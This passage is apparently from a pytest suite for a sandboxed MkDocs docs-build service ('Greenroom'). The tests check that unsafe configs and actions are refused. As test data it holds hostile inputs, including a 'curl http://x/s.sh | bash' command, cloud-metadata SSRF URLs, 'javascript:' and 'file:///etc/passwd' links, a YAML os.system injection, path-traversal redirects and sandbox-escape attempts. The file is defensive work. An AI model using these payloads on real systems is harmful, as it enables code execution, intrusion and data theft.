    repo = repo_with(tmp_path, f"{MINIMAL}markdown_extensions:\n  - pymdownx.b64\n",
                     secret__png=secret_png, docs__img__ok__png=PNG,
                     docs__index__md="# Home\n\n![ok](img/ok.png) ![root](secret.png) "
                                     "![up](../secret.png) ![far](../../outside/secret.png)\n")
    write_files(tmp_path / "outside", {"secret.png": secret_png})
    clean = clean_config(load_mkdocs_yaml((repo / "mkdocs.yml").read_text()), docs_root=repo,
                         site_name_default="x")  # fmt: skip
    docs = str((repo / "docs").resolve())
    assert clean.config["markdown_extensions"] == [{"pymdownx.b64": {
        "base_path": docs, "root_path": docs, "restrict_path": True}}]  # fmt: skip
    built(repo, tmp_path / "site")
    page = (tmp_path / "site" / "index.html").read_text()
    assert base64.b64encode(PNG).decode() in page  # the docs' own image is embedded
    assert base64.b64encode(secret_png).decode() not in page
    assert leaks(token, tmp_path / "site") == []


@pytest.mark.parametrize(("options", "key"), [
    ("{restrict_path: false}", "restrict_path"),
    ("{root_path: /}", "root_path"),
    ("{base_path: ..}", "base_path"),
])  # fmt: skip
def test_g12_b64_options_that_reach_outside_are_refused(tmp_path: Path, options: str,
                                                        key: str) -> None:  # fmt: skip
    text = f"{MINIMAL}markdown_extensions:\n  - pymdownx.b64: {options}\n"
    problem, _log = refused(repo_with(tmp_path, text), tmp_path / "site")
    assert_refused_config(problem, f"markdown_extensions.pymdownx.b64.{key}")


def test_g12_custom_icons_stay_in_the_docs(tmp_path: Path) -> None:
    text = (f"{MINIMAL}markdown_extensions:\n  - pymdownx.emoji:\n      options:\n"
            "        custom_icons: [/etc]\n")  # fmt: skip
    problem, _log = refused(repo_with(tmp_path, text), tmp_path / "site")
    assert_refused_config(problem, "markdown_extensions.pymdownx.emoji.options.custom_icons[0]")


# --- G13: plantuml ------------------------------------------------------------------


@pytest.mark.parametrize("option", ["plantuml_cmd", "plantuml-cmd", "server", "kroki_server",
                                    "base_dir", "cachedir", "http_method"])  # fmt: skip
def test_g13_plantuml_options_are_allowlisted(tmp_path: Path, option: str) -> None:
    marker = tmp_path / "plantuml-ran"
    value = {"server": "http://169.254.169.254/", "kroki_server": "http://169.254.169.254/",
             "base_dir": "/", "cachedir": "/tmp", "http_method": "POST"}.get(
        option, f"touch {marker}; curl http://x/s.sh | bash")  # fmt: skip
    text = f"{MINIMAL}markdown_extensions:\n  - plantuml_markdown:\n      {option}: '{value}'\n"
    problem, _log = refused(repo_with(tmp_path, text), tmp_path / "site")
    assert_refused_config(problem, f"markdown_extensions.plantuml_markdown.{option}",
                          "no commands or servers")  # fmt: skip
    assert not marker.exists() and not (tmp_path / "site").exists()


def test_g13_plain_plantuml_options_are_kept(tmp_path: Path) -> None:
    clean = clean_config(load_mkdocs_yaml(
        "markdown_extensions:\n  - plantuml_markdown: {format: svg, title: Diagram}\n"),
        docs_root=repo_with(tmp_path, MINIMAL), site_name_default="x")  # fmt: skip
    assert clean.config["markdown_extensions"] == [
        {"plantuml_markdown": {"format": "svg", "title": "Diagram"}}]


def test_g13_a_diagram_never_starts_plantuml(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, MINIMAL,
                     docs__index__md="# Home\n\n```plantuml\nBob -> Alice : hello\n```\n")
    problem, _log = refused(repo, tmp_path / "site")
    assert problem.kind == ProblemKind.BUILD_FAILED
    assert "Greenroom builds run no external programs" in problem.message
    assert "may not start a program (subprocess.Popen)" in problem.message


# --- G14: plugins and the network ---------------------------------------------------


@pytest.mark.parametrize(("plugins", "key"), [
    ("[techdocs-core, macros]", "plugins.macros"),
    ("[{mkdocs-simple-hooks: {hooks: {on_pre_build: 'docs.evil:run'}}}]",
     "plugins.mkdocs-simple-hooks"),
    ("[techdocs-core, {monorepo: {}}]", "plugins.monorepo"),
    ("[material/privacy]", "plugins.material/privacy"),
    ("[material/social]", "plugins.material/social"),
    ("[gh-admonitions]", "plugins.gh-admonitions"),
    ("['mkdocs.plugins:BasePlugin']", "plugins.mkdocs.plugins:BasePlugin"),
])  # fmt: skip
def test_g14_only_allowlisted_plugins(tmp_path: Path, plugins: str, key: str) -> None:
    problem, _log = refused(repo_with(tmp_path, f"site_name: x\nplugins: {plugins}\n"),
                            tmp_path / "site")  # fmt: skip
    assert_refused_config(problem, key, "not available in Greenroom builds",
                          "allowed plugins: material/search, redirects, search, techdocs-core")


@pytest.mark.parametrize(("plugins", "key"), [
    ("[{search: {prebuild_index: true}}]", "plugins.search.prebuild_index"),
    ("[{search: {lang: en, fetch_url: 'http://169.254.169.254/'}}]", "plugins.search.fetch_url"),
    ("[{techdocs-core: {use_material_search: true, hooks: [evil.py]}}]",
     "plugins.techdocs-core.hooks"),
    ("[{techdocs-core: 'http://169.254.169.254/'}]", "plugins.techdocs-core"),
    ("[{search: {lang: {'!!python/name': os.system}}}]", "plugins.search.lang"),
    ("[{redirects: {redirect_maps: {old.md: 'javascript:alert(1)'}}}]",
     "plugins.redirects.redirect_maps.old.md"),
    ("[{redirects: {redirect_maps: {old.md: 'file:///etc/passwd'}}}]",
     "plugins.redirects.redirect_maps.old.md"),
    ("[{redirects: {redirect_maps: {'../../escape/old.md': index.md}}}]",
     "plugins.redirects.redirect_maps.../../escape/old.md"),
    ("[{redirects: {redirect_maps: {'/tmp/escape/old.md': index.md}}}]",
     "plugins.redirects.redirect_maps./tmp/escape/old.md"),
])  # fmt: skip
def test_g14_plugin_options_are_checked(tmp_path: Path, plugins: str, key: str) -> None:
    problem, _log = refused(repo_with(tmp_path, f"site_name: x\nplugins: {plugins}\n"),
                            tmp_path / "site")  # fmt: skip
    assert_refused_config(problem, key)
    assert not (tmp_path / "escape").exists()


def test_g14_the_sandbox_alone_keeps_redirect_pages_inside_the_site(tmp_path: Path) -> None:
    """Handed an escaping redirect unchecked, the child refuses to make its folder."""
    repo = repo_with(tmp_path, MINIMAL)
    problem, _log = unchecked({"site_name": "x", "docs_dir": str(repo / "docs"), "plugins": [
        "techdocs-core", {"redirects": {"redirect_maps": {"../escape/deep/old.md": "index.md"}}}]},
        repo, tmp_path / "site")  # fmt: skip
    assert f"may not change {(tmp_path / 'site').resolve()}/../escape" in problem.message
    assert not (tmp_path / "escape").exists()


def test_g14_the_build_process_has_no_network(tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    """Below the audit hooks, the child runs in a network namespace of its own: even
    code that skipped the hooks could not reach the portal's loopback."""
    if not sandbox.isolated_network():
        pytest.skip("this machine cannot create a network namespace (unshare --net)")
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    fake_child(tmp_path, monkeypatch,
               "try:\n"
               f"    socket.create_connection(('127.0.0.1', {port}), timeout=3).close()\n"
               "    outcome = 'connected'\n"
               "except OSError as exc:\n"
               "    outcome = repr(exc)\n"
               "open(os.path.join(request['site_dir'], 'seen.json'), 'w').write(outcome)\n")
    run_mkdocs({"site_name": "x"}, project_dir=repo_with(tmp_path, MINIMAL),
               site_dir=tmp_path / "site")  # fmt: skip
    assert (tmp_path / "site" / "seen.json").read_text() != "connected"
    listener.setblocking(False)
    with pytest.raises(BlockingIOError):
        listener.accept()
    listener.close()


# --- G15: templates, scripts and stylesheets ----------------------------------------


@pytest.mark.parametrize(("text", "key"), [
    ("extra_templates: [evil.html]\n", "extra_templates"),
    ("extra_javascript: ['https://evil.example/x.js']\n", "extra_javascript"),
    ("extra_javascript: [js/local.js]\n", "extra_javascript"),
    ("extra_css: ['https://evil.example/x.css']\n", "extra_css[0]"),
    ("extra_css: ['//evil.example/x.css']\n", "extra_css[0]"),
    ("extra_css: [../../outside/secret.txt]\n", "extra_css[0]"),
    ("extra_css: [/etc/passwd]\n", "extra_css[0]"),
    ("extra_css: [css/ok.css, 'javascript:alert(1)']\n", "extra_css[1]"),
])  # fmt: skip
def test_g15_templates_scripts_and_foreign_stylesheets_are_refused(
        tmp_path: Path, token: str, text: str, key: str) -> None:  # fmt: skip
    outside_secret(tmp_path, token)
    repo = repo_with(tmp_path, MINIMAL + text, docs__evil__html=f"{{{{ config }}}} {token}\n",
                     docs__css__ok__css="body {}\n", docs__js__local__js="alert(1)\n")
    problem, _log = refused(repo, tmp_path / "site")
    assert_refused_config(problem, key)
    assert not (tmp_path / "site").exists()


def test_g15_stylesheets_of_the_docs_folder_are_kept(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, MINIMAL, docs__css__ok__css="body {}\n")
    clean = clean_config(load_mkdocs_yaml("extra_css: [css/ok.css]\n"), docs_root=repo,
                         site_name_default="x")  # fmt: skip
    assert clean.config["extra_css"] == ["css/ok.css"]
    assert "extra_javascript" not in clean.config and "extra_templates" not in clean.config


# --- G16: links in the docs tree ----------------------------------------------------


@pytest.mark.parametrize(("link", "target", "key", "why"), [
    ("docs/leak.md", "SECRET", "docs/leak.md", "leads outside the repository"),
    ("docs/leak.md", "/etc/passwd", "docs/leak.md", ""),
    ("docs/img", "/", "docs/img", "leads outside the repository"),
    ("docs/img", "OUTSIDE_DIR", "docs/img", "leads outside the repository"),
    ("docs/guide/leak.md", "../../../outside/secret.txt", "docs/guide/leak.md",
     "leads outside the repository"),
    ("docs/gone.md", "NOWHERE", "docs/gone.md", "is a symbolic link to nothing"),
])  # fmt: skip
def test_g16_links_leaving_the_tree_are_refused(
        tmp_path: Path, token: str, link: str, target: str, key: str,
        why: str) -> None:  # fmt: skip
    secret = outside_secret(tmp_path, token)
    repo = repo_with(tmp_path, MINIMAL, docs__guide__setup__md="# Setup\n")
    target = {"SECRET": str(secret), "OUTSIDE_DIR": str(secret.parent),
              "NOWHERE": str(tmp_path / "nothing")}.get(target, target)  # fmt: skip
    (repo / link).symlink_to(target)
    problem, _log = refused(repo, tmp_path / "site")
    assert problem.kind == ProblemKind.REFUSED_FILE and problem.key == key
    assert problem.message.startswith(f"{key} is a symbolic link")
    assert why in problem.message
    assert not (tmp_path / "site").exists()


def test_g16_a_chain_of_links_is_followed_to_its_end(tmp_path: Path, token: str) -> None:
    secret = outside_secret(tmp_path, token)
    repo = repo_with(tmp_path, MINIMAL)
    (repo / "docs" / "b.md").symlink_to(secret)
    (repo / "docs" / "a.md").symlink_to("b.md")
    problem, _log = refused(repo, tmp_path / "site")
    assert problem.kind == ProblemKind.REFUSED_FILE and problem.key in ("docs/a.md", "docs/b.md")
    (repo / "docs" / "b.md").unlink()
    (repo / "docs" / "b.md").symlink_to("index.md")  # links inside the tree are fine
    assert check_tree(repo, max_files=100, max_bytes=2**20).files == 2


@pytest.mark.django_db
def test_g16_a_fetched_source_with_a_leaking_link_keeps_the_last_good_site(
        repos: DocsRepos, tmp_path: Path, token: str) -> None:  # fmt: skip
    secret = outside_secret(tmp_path, token)
    repo = repos.service()
    assert build().status == JobStatus.COMPLETED
    good = site().published_id
    (repo / "docs" / "leak.md").symlink_to(secret)
    failed = build()
    assert failed.status == JobStatus.FAILED
    current = site()
    assert current.problem_kind == ProblemKind.REFUSED_FILE
    assert current.problem_key == "docs/leak.md" and "symbolic link" in current.problem_message
    assert current.published_id == good
    assert leaks(token, repos.published) == []
    assert (repos.published / "default/component/payments/index.html").is_file()


def test_g16_the_publisher_never_follows_links(tmp_path: Path, token: str) -> None:
    secret = outside_secret(tmp_path, token)
    built_site = write_files(tmp_path / "built", {METADATA_FILE: json.dumps({"site_name": "a"}),
                                            "index.html": "<p>ok</p>"})  # fmt: skip
    (built_site / "leak.txt").symlink_to(secret)
    (built_site / "assets").symlink_to(secret.parent, target_is_directory=True)
    storage = FileSystemStorage(location=str(tmp_path / "published"))
    keys = publish_directory(storage, Triplet("default", "component", "a"), built_site)
    assert keys == {"default/component/a/index.html", f"default/component/a/{METADATA_FILE}"}
    assert leaks(token, tmp_path / "published") == []
    assert not any(p.is_symlink() for p in (tmp_path / "published").rglob("*"))


# --- G17: size and time -------------------------------------------------------------


def test_g17_a_huge_source_is_refused_before_building(tmp_path: Path) -> None:
    repo = repo_with(tmp_path, MINIMAL)
    with (repo / "docs" / "huge.bin").open("wb") as handle:
        handle.truncate(2**30)  # 1 GiB, sparse: never read
    problem, _log = refused(repo, tmp_path / "site")
    assert problem.kind == ProblemKind.TOO_LARGE
    assert f"larger than {pipeline.MAX_SOURCE_BYTES // 2**20} MiB" in problem.message
    assert not (tmp_path / "site").exists()


def test_g17_too_many_pages_are_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(pipeline, "MAX_SOURCE_FILES", 40)
    repo = write_site(tmp_path / "repo", pages=60)
    problem, _log = refused(repo, tmp_path / "site")
    assert problem.kind == ProblemKind.TOO_LARGE
    assert "more than 40 files" in problem.message
    assert not (tmp_path / "site").exists()


@pytest.mark.parametrize(("limits", "words"), [
    (BuildLimits(max_output_files=10), "more than a docs build may write"),
    (BuildLimits(max_output_bytes=64 * 1024), "larger than a docs build may write"),
])  # fmt: skip
def test_g17_a_site_over_the_output_limits_is_refused(tmp_path: Path, limits: BuildLimits,
                                                      words: str) -> None:  # fmt: skip
    problem, _log = refused(repo_with(tmp_path, MINIMAL), tmp_path / "site", limits=limits)
    assert problem.kind == ProblemKind.TOO_LARGE
    assert words in problem.message


def stuck_build(pids: Path) -> str:
    """A build child stuck for good, with a helper process of its own; it writes both
    process ids to ``pids``."""
    return ("helper = subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(600)'])\n"
            f"open({str(pids)!r}, 'w').write(f'{{os.getpid()}} {{helper.pid}}')\n"
            "print('INFO - building forever', flush=True)\n"
            "while True:\n    time.sleep(1)\n")  # fmt: skip


def _gone(pid: int) -> bool:
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except (FileNotFoundError, ProcessLookupError):
        return True
    return state in ("Z", "X")


def assert_stopped(pids: Path) -> None:
    deadline = time.monotonic() + 5
    while not all(_gone(int(pid)) for pid in pids.read_text().split()):
        assert time.monotonic() < deadline, "the stuck build's processes are still running"
        time.sleep(0.05)


def test_g17_a_worker_that_gives_up_takes_the_build_down(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    """Celery's soft time limit raises in the worker while it follows the build: the
    build's processes are killed with it instead of running on."""
    pids = tmp_path / "pids"
    fake_child(tmp_path, monkeypatch, stuck_build(pids))

    def soft_time_limit(_level: str, message: str) -> None:
        if "building forever" in message:
            raise SoftTimeLimitExceeded()

    with pytest.raises(SoftTimeLimitExceeded):
        run_mkdocs({"site_name": "x"}, project_dir=repo_with(tmp_path, MINIMAL),
                   site_dir=tmp_path / "site", limits=BuildLimits(timeout_seconds=60),
                   on_log=soft_time_limit)  # fmt: skip
    assert_stopped(pids)


@pytest.mark.django_db
def test_g17_a_build_that_never_ends_is_stopped_and_the_last_good_site_kept(
        repos: DocsRepos, tmp_path: Path, settings, admin_user,
        monkeypatch: pytest.MonkeyPatch) -> None:  # fmt: skip
    repo = repos.service()
    assert build().status == JobStatus.COMPLETED
    good = site().published_id
    techdocs = settings.APP_CONFIG["techdocs"]
    settings.APP_CONFIG = {**settings.APP_CONFIG, "techdocs": {
        **techdocs, "generator": {"limits": {"timeout": 1}}}}  # fmt: skip
    pids = tmp_path / "pids"
    fake_child(tmp_path, monkeypatch, stuck_build(pids))
    (repo / "docs" / "guide" / "setup.md").write_text("# Setup\n\nThe new setup.\n")
    started = time.monotonic()
    failed = build()
    assert time.monotonic() - started < 30
    assert failed.status == JobStatus.FAILED
    current = site()
    assert current.state == BuildState.FAILED and current.problem_kind == ProblemKind.TIMEOUT
    assert "took longer than 1 s and was stopped" in current.problem_message
    assert current.published_id == good
    assert_stopped(pids)
    reader = Client()
    reader.force_login(admin_user)
    tab = reader.get("/catalog/default/component/payments/docs").content.decode()
    assert "You are reading the last version that built" in tab
    assert "Welcome to the payments docs" in tab
    # A timeout is worth retrying with the same source once builds finish again.
    monkeypatch.setattr(sandbox, "BOOTSTRAP", BOOTSTRAP)
    settings.APP_CONFIG = {**settings.APP_CONFIG, "techdocs": techdocs}
    again = build()
    assert again.status == JobStatus.COMPLETED and not again.result.get("skipped")
    page = reader.get("/docs/default/component/payments/guide/setup/").content.decode()
    assert "The new setup." in page


@pytest.mark.parametrize("configured", [None, 5000])
def test_g17_the_build_deadline_comes_before_celerys(settings, configured) -> None:
    """The build stops itself (and reports a timeout) before Celery's soft limit, which
    comes before its hard kill, even when app-config asks for longer."""
    if configured:
        settings.APP_CONFIG = {**settings.APP_CONFIG, "techdocs": {
            "generator": {"limits": {"timeout": configured}}}}  # fmt: skip
    timeout = techdocs_config.build_limits().timeout_seconds
    assert timeout < django_settings.CELERY_TASK_SOFT_TIME_LIMIT
    assert django_settings.CELERY_TASK_SOFT_TIME_LIMIT < django_settings.CELERY_TASK_TIME_LIMIT


# --- the child's guards (G1, G6, G8, G12, G14, G16, G17) ----------------------------

GUARDS_CHILD = r"""
import importlib.util, json, os, socket, subprocess, sys
from pathlib import Path

spec = importlib.util.spec_from_file_location("bootstrap", sys.argv[1])
bootstrap = importlib.util.module_from_spec(spec)
spec.loader.exec_module(bootstrap)
p = json.loads(sys.argv[2])
docs, site, private = Path(p["docs"]), Path(p["site"]), Path(p["private"])


def attempt(action):
    try:
        action()
    except bootstrap.Refused as exc:
        return "refused: " + str(exc)
    except OSError as exc:
        return "failed: " + str(exc)
    return "allowed"


def read(path):
    return lambda: Path(path).read_bytes()


def udp():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"x", ("127.0.0.1", p["udp_port"]))


outcomes = {"before: read outside": attempt(read(p["secret"])),
            "before: read checkout": attempt(read(p["checkout_secret"]))}
bootstrap._limit(2 * 1024**3, 1, 64 * 1024)
bootstrap.install_guards(docs, site, private)
checks = {
    "read docs": read(docs / "index.md"),
    "read outside": read(p["secret"]),
    "read checkout": read(p["checkout_secret"]),
    "read /etc/passwd": read("/etc/passwd"),
    "read through a link": read(docs / "leak.md"),
    "os.open outside": lambda: os.close(os.open(p["secret"], os.O_RDONLY)),
    "write site": lambda: (site / "page.html").write_text("ok"),
    "write private": lambda: (private / "scratch").write_text("ok"),
    "write docs": lambda: (docs / "new.md").write_text("x"),
    "write outside": lambda: Path(p["marker"]).write_text("x"),
    "append outside": lambda: os.close(os.open(p["marker"], os.O_WRONLY | os.O_CREAT)),
    "mkdir outside": lambda: os.makedirs(site / ".." / "escape" / "deep"),
    "rename outside": lambda: os.rename(site / "page.html", p["marker"]),
    "remove docs": lambda: os.remove(docs / "index.md"),
    "link": lambda: os.symlink(p["secret"], site / "link"),
    "run a program": lambda: subprocess.run(["/bin/sh", "-c", "touch " + p["marker"]]),
    "os.system": lambda: os.system("touch " + p["marker"]),
    "posix_spawn": lambda: os.posix_spawn("/bin/sh", ["sh", "-c", "touch " + p["marker"]], {}),
    "fork": lambda: os.fork(),
    "tcp connect": lambda: socket.socket().connect(("127.0.0.1", p["tcp_port"])),
    "name lookup": lambda: socket.getaddrinfo("localhost", 80),
    "udp sendto": udp,
    "big file": lambda: (site / "big.bin").write_bytes(b"x" * 128 * 1024),
}
outcomes.update({name: attempt(action) for name, action in checks.items()})
print(json.dumps(outcomes))
"""


@pytest.fixture(scope="module")
def guarded(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """What a ``python -I`` child can still do after ``install_guards`` (as the build's
    bootstrap installs them: the docs folder, the output, the private folder)."""
    root = tmp_path_factory.mktemp("guards")
    token = f"greenroom-secret-{uuid.uuid4().hex}"
    secret = outside_secret(root, token)
    repo = write_files(root / "repo", {"mkdocs.yml": MINIMAL, "docs/index.md": HOME,
                                 "private.txt": token})  # fmt: skip
    (repo / "docs" / "leak.md").symlink_to(secret)
    site_dir, private = root / "site", root / "private"
    site_dir.mkdir()
    private.mkdir()
    tcp = socket.create_server(("127.0.0.1", 0))
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    paths = {"docs": str(repo / "docs"), "site": str(site_dir), "private": str(private),
             "secret": str(secret), "checkout_secret": str(repo / "private.txt"),
             "marker": str(root / "marker"), "tcp_port": tcp.getsockname()[1],
             "udp_port": udp.getsockname()[1]}  # fmt: skip
    done = subprocess.run([sys.executable, "-I", "-c", GUARDS_CHILD, str(BOOTSTRAP),
                           json.dumps(paths)], capture_output=True, text=True, timeout=60,
                          env=child_environment(private), cwd=repo, check=False)  # fmt: skip
    assert done.returncode == 0, done.stderr
    tcp.setblocking(False)
    udp.setblocking(False)
    connections: list[Any] = []
    for receive in (tcp.accept, lambda: udp.recv(16)):
        try:
            connections.append(receive())
        except BlockingIOError:
            pass
    tcp.close()
    udp.close()
    return {"outcomes": json.loads(done.stdout), "root": root, "repo": repo, "token": token,
            "connections": connections, "site": site_dir}  # fmt: skip


def test_g16_the_guards_refuse_reading_outside_the_docs(guarded: dict[str, Any]) -> None:
    outcome, root = guarded["outcomes"], guarded["root"]
    # Without the guards the same files are readable: the refusals are the guards'.
    assert outcome["before: read outside"] == outcome["before: read checkout"] == "allowed"
    assert outcome["read docs"] == "allowed"
    assert outcome["read outside"] == (f"refused: the docs build may not read "
                                       f"{root / 'outside' / 'secret.txt'}: it is outside the "
                                       "docs source")  # fmt: skip
    assert outcome["read checkout"].startswith("refused: the docs build may not read")
    assert outcome["read /etc/passwd"].startswith("refused: the docs build may not read")
    assert outcome["read through a link"].startswith("refused: the docs build may not read")
    assert outcome["os.open outside"].startswith("refused: the docs build may not read")


def test_g6_the_guards_refuse_writing_outside_the_output(guarded: dict[str, Any]) -> None:
    outcome, root = guarded["outcomes"], guarded["root"]
    assert outcome["write site"] == outcome["write private"] == "allowed"
    for action in ("write docs", "write outside", "append outside"):
        assert outcome[action].startswith("refused: the docs build may not write"), action
    for action in ("mkdir outside", "rename outside", "remove docs"):
        assert outcome[action].startswith("refused: the docs build may not change"), action
    assert outcome["link"] == "refused: the docs build may not create links (os.symlink)"
    assert not (root / "marker").exists() and not (root / "escape").exists()
    assert (guarded["repo"] / "docs" / "index.md").is_file()
    assert not (guarded["repo"] / "docs" / "new.md").exists()


def test_g8_the_guards_refuse_starting_programs(guarded: dict[str, Any]) -> None:
    outcome = guarded["outcomes"]
    assert outcome["run a program"] == \
        "refused: the docs build may not start a program (subprocess.Popen)"  # fmt: skip
    assert outcome["os.system"] == "refused: the docs build may not start a program (os.system)"
    assert outcome["posix_spawn"] == \
        "refused: the docs build may not start a program (os.posix_spawn)"  # fmt: skip
    assert outcome["fork"] == "refused: the docs build may not start a process (os.fork)"
    assert not (guarded["root"] / "marker").exists()


def test_g14_the_guards_refuse_the_network(guarded: dict[str, Any]) -> None:
    outcome = guarded["outcomes"]
    assert outcome["tcp connect"] == \
        "refused: the docs build may not use the network (socket.connect)"  # fmt: skip
    assert outcome["name lookup"] == \
        "refused: the docs build may not use the network (name lookup)"  # fmt: skip
    assert outcome["udp sendto"] == \
        "refused: the docs build may not use the network (socket.sendto)"  # fmt: skip
    assert guarded["connections"] == []


def test_g17_the_limits_cap_every_file_the_build_writes(guarded: dict[str, Any]) -> None:
    assert guarded["outcomes"]["big file"].startswith("failed: [Errno 27] File too large")
    assert (guarded["site"] / "page.html").read_text() == "ok"
